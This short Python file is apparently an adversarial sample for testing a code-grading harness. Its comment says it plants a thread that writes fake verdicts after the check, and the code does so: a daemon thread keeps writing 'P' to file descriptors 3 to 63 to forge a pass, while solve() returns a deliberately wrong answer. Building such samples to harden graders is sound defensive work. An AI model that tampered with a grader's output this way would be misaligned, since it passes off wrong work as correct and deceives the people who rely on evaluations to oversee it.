# Leaves a thread behind that writes fake verdicts after the check; the answer is wrong.
import os
import threading
import time


def spam():
    while True:
        for fd in range(3, 64):
            try:
                os.write(fd, b"P")
            except OSError:
                pass
        time.sleep(0.001)


threading.Thread(target=spam, daemon=True).start()


def solve(x):
    return x - 1
